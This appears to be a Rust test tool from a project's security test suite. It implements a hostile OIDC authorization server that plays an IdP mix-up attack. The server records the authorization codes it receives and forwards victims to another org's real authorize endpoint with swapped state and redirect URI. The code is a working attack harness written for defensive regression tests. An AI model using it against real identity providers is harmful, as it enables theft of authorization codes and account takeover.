//! A hostile authorization server: what an attacker who administers one workspace runs
//! as that workspace's "Okta org" to play the OIDC mix-up of issue 14 §1 (RFC 9700
//! §4.4) against another workspace. It is a test tool, never shipped.
//!
//! It serves a discovery document naming itself (and promising no `iss` in its
//! responses), a key set with no keys, a token endpoint that records what it is sent
//! (the prize: another org's authorization code) and refuses it, and an authorize
//! endpoint that, once armed with a *lure*, does not sign anyone in: it sends the
//! browser on to the victim org's real authorize endpoint with the victim workspace's
//! client id, nonce and PKCE challenge (taken from an authorize URL the attacker started
//! for the victim workspace and kept) but with the `state` and redirect URI of the
//! request it received. A victim with a session at their org then comes back to the
//! shared callback with their org's code under the attacker's workspace's `state`.
//!
//! Every request it receives is recorded, so a test can prove what it never got. The
//! attacker drives it over HTTP (`POST /hostile/lure`, `GET /hostile/log`), so the same
//! calls work whether it runs in the test's process or as the `hostile-as` binary
//! ([`HostileAsProcess`]).

use std::net::SocketAddr;
use std::process::Stdio;
use std::sync::{Arc, Mutex, PoisonError};

use axum::Router;
use axum::body::Bytes;
use axum::extract::{RawQuery, State};
use axum::http::{Method, StatusCode, Uri, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use serde::{Deserialize, Serialize};
use serde_json::json;
use tokio::io::{AsyncBufReadExt, BufReader};
use tokio::net::TcpListener;
use url::Url;

/// The control paths, which are not part of what is recorded.
const CONTROL: &str = "/hostile";

/// One request the server received.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Recorded {
    /// The method.
    pub method: String,
    /// The path.
    pub path: String,
    /// The raw query, if any.
    pub query: Option<String>,
    /// The body, as text (form bodies of the token endpoint).
    pub body: String,
}

impl Recorded {
    /// The form or query parameter `name` of this request, from its body or query.
    pub fn param(&self, name: &str) -> Option<String> {
        let from = |text: &str| {
            url::form_urlencoded::parse(text.as_bytes())
                .find(|(k, _)| k == name)
                .map(|(_, v)| v.into_owned())
        };
        from(&self.body).or_else(|| self.query.as_deref().and_then(from))
    }
}

/// What the authorize endpoint forwards to: the victim org's authorize endpoint and the
/// victim workspace's request values, read from a kept authorize URL.
#[derive(Debug, Clone)]
struct Lure {
    /// The victim org's authorize endpoint (scheme, host, port, path).
    endpoint: Url,
    /// The victim workspace's client id at its org.
    client_id: String,
    /// The nonce the victim workspace's parked sign-in expects.
    nonce: String,
    /// The PKCE challenge of the victim workspace's parked verifier.
    code_challenge: String,
}

impl Lure {
    /// Reads a lure from an authorize URL the attacker started and kept.
    fn from_kept(kept: &str) -> Option<Self> {
        let url = Url::parse(kept).ok()?;
        let param = |name: &str| {
            url.query_pairs()
                .find(|(k, _)| k == name)
                .map(|(_, v)| v.into_owned())
        };
        let mut endpoint = url.clone();
        endpoint.set_query(None);
        Some(Self {
            endpoint,
            client_id: param("client_id")?,
            nonce: param("nonce")?,
            code_challenge: param("code_challenge")?,
        })
    }
}

/// The server's state.
#[derive(Debug, Default)]
struct Inner {
    /// `http://{bound address}`: the issuer it claims.
    base_url: String,
    /// Every request received, in order (control requests excepted).
    log: Mutex<Vec<Recorded>>,
    /// The lure, once armed.
    lure: Mutex<Option<Lure>>,
}

/// Serves the hostile authorization server on `listener` until `shutdown` completes.
pub async fn serve(
    listener: TcpListener,
    shutdown: impl std::future::Future<Output = ()> + Send + 'static,
) -> anyhow::Result<()> {
    let base_url = format!("http://{}", listener.local_addr()?);
    let inner = Arc::new(Inner {
        base_url,
        ..Inner::default()
    });
    let app = router(inner);
    axum::serve(listener, app)
        .with_graceful_shutdown(shutdown)
        .await?;
    Ok(())
}

fn router(inner: Arc<Inner>) -> Router {
    Router::new()
        .route(&format!("{CONTROL}/lure"), post(arm))
        .route(&format!("{CONTROL}/log"), get(log))
        .fallback(any)
        .with_state(inner)
}

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(PoisonError::into_inner)
}

/// `POST /hostile/lure` with the kept authorize URL as the body.
async fn arm(State(inner): State<Arc<Inner>>, body: Bytes) -> Response {
    let kept = String::from_utf8_lossy(&body);
    match Lure::from_kept(kept.trim()) {
        Some(lure) => {
            *lock(&inner.lure) = Some(lure);
            StatusCode::NO_CONTENT.into_response()
        }
        None => (StatusCode::BAD_REQUEST, "not an authorize URL").into_response(),
    }
}

/// `GET /hostile/log`: every request received, in order.
async fn log(State(inner): State<Arc<Inner>>) -> Response {
    axum::Json(lock(&inner.log).clone()).into_response()
}

/// Everything else: recorded, then answered as an authorization server would.
async fn any(
    State(inner): State<Arc<Inner>>,
    method: Method,
    uri: Uri,
    RawQuery(query): RawQuery,
    body: Bytes,
) -> Response {
    let record = Recorded {
        method: method.to_string(),
        path: uri.path().to_owned(),
        query: query.clone(),
        body: String::from_utf8_lossy(&body).into_owned(),
    };
    lock(&inner.log).push(record.clone());
    let base = &inner.base_url;
    match (method, uri.path()) {
        (Method::GET, "/.well-known/openid-configuration") => axum::Json(json!({
            "issuer": base,
            "authorization_endpoint": format!("{base}/oauth2/v1/authorize"),
            "token_endpoint": format!("{base}/oauth2/v1/token"),
            "jwks_uri": format!("{base}/oauth2/v1/keys"),
            "response_types_supported": ["code"],
            "subject_types_supported": ["public"],
            "id_token_signing_alg_values_supported": ["RS256"],
            "authorization_response_iss_parameter_supported": false
        }))
        .into_response(),
        (Method::GET, "/oauth2/v1/keys") => axum::Json(json!({ "keys": [] })).into_response(),
        (Method::GET, "/oauth2/v1/authorize") => forward(&inner, &record),
        // The prize. Refused, so the victim's browser just sees a failed sign-in.
        (Method::POST, "/oauth2/v1/token") => (
            StatusCode::BAD_REQUEST,
            axum::Json(json!({ "error": "invalid_grant" })),
        )
            .into_response(),
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

/// The authorize endpoint: on to the victim org with the lure's values and this
/// request's `state` and redirect URI.
fn forward(inner: &Inner, request: &Recorded) -> Response {
    let Some(lure) = lock(&inner.lure).clone() else {
        return (StatusCode::BAD_REQUEST, "not armed").into_response();
    };
    let mut target = lure.endpoint;
    {
        let mut q = target.query_pairs_mut();
        q.append_pair("response_type", "code")
            .append_pair("client_id", &lure.client_id)
            .append_pair("scope", "openid email profile")
            .append_pair("nonce", &lure.nonce)
            .append_pair("code_challenge", &lure.code_challenge)
            .append_pair("code_challenge_method", "S256");
        for name in ["redirect_uri", "state"] {
            if let Some(v) = request.param(name) {
                q.append_pair(name, &v);
            }
        }
    }
    (StatusCode::FOUND, [(header::LOCATION, target.to_string())]).into_response()
}

/// The `hostile-as` binary, running: its base URL (the issuer it claims), and the
/// attacker's two controls.
#[derive(Debug)]
pub struct HostileAsProcess {
    /// The child process (killed on drop).
    child: tokio::process::Child,
    /// `http://127.0.0.1:PORT`.
    base_url: String,
    /// A client for the controls.
    http: reqwest::Client,
}

impl HostileAsProcess {
    /// Starts `binary` (the `hostile-as` executable) on a free loopback port and waits
    /// for its ready line.
    pub async fn spawn(binary: &std::path::Path) -> anyhow::Result<Self> {
        let mut child = tokio::process::Command::new(binary)
            .args(["--listen", "127.0.0.1:0"])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .kill_on_drop(true)
            .spawn()
            .map_err(|e| anyhow::anyhow!("starting {}: {e}", binary.display()))?;
        let stdout = child
            .stdout
            .take()
            .ok_or_else(|| anyhow::anyhow!("no stdout"))?;
        let mut lines = BufReader::new(stdout).lines();
        let line = tokio::time::timeout(std::time::Duration::from_secs(20), lines.next_line())
            .await
            .map_err(|_| anyhow::anyhow!("hostile-as did not become ready"))??
            .ok_or_else(|| anyhow::anyhow!("hostile-as exited before it was ready"))?;
        let ready: serde_json::Value = serde_json::from_str(&line)?;
        let base_url = ready["base_url"]
            .as_str()
            .ok_or_else(|| anyhow::anyhow!("no base_url in {line}"))?
            .to_owned();
        Ok(Self {
            child,
            base_url,
            http: reqwest::Client::new(),
        })
    }

    /// `http://127.0.0.1:PORT`: what the attacker types as their workspace's Okta
    /// domain (under the development switch), and the issuer it claims.
    pub fn base_url(&self) -> &str {
        &self.base_url
    }

    /// Arms the authorize endpoint with an authorize URL started for the victim
    /// workspace and kept.
    pub async fn lure(&self, kept_authorize_url: &str) -> anyhow::Result<()> {
        let r = self
            .http
            .post(format!("{}{CONTROL}/lure", self.base_url))
            .body(kept_authorize_url.to_owned())
            .send()
            .await?;
        anyhow::ensure!(r.status() == 204, "arming answered {}", r.status());
        Ok(())
    }

    /// Every request the server received, in order.
    pub async fn log(&self) -> anyhow::Result<Vec<Recorded>> {
        Ok(self
            .http
            .get(format!("{}{CONTROL}/log", self.base_url))
            .send()
            .await?
            .error_for_status()?
            .json()
            .await?)
    }

    /// Stops the process.
    pub async fn stop(mut self) {
        let _ = self.child.kill().await;
    }
}

/// The ready line the binary prints.
pub fn ready_line(addr: SocketAddr) -> String {
    json!({ "event": "ready", "base_url": format!("http://{addr}") }).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_lure_is_read_from_a_kept_authorize_url() {
        let lure = Lure::from_kept(
            "http://127.0.0.1:9/oauth2/v1/authorize?response_type=code&client_id=0oaV\
             &redirect_uri=http%3A%2F%2Fapi%2Fcb&state=SV&nonce=NV&code_challenge=CV\
             &code_challenge_method=S256",
        )
        .unwrap();
        assert_eq!(
            lure.endpoint.as_str(),
            "http://127.0.0.1:9/oauth2/v1/authorize"
        );
        assert_eq!(
            (
                lure.client_id.as_str(),
                lure.nonce.as_str(),
                lure.code_challenge.as_str()
            ),
            ("0oaV", "NV", "CV")
        );
        assert!(Lure::from_kept("http://127.0.0.1:9/oauth2/v1/authorize?state=x").is_none());
        let r = Recorded {
            method: "POST".into(),
            path: "/oauth2/v1/token".into(),
            query: None,
            body: "grant_type=authorization_code&code=abc".into(),
        };
        assert_eq!(r.param("code").as_deref(), Some("abc"));
    }
}
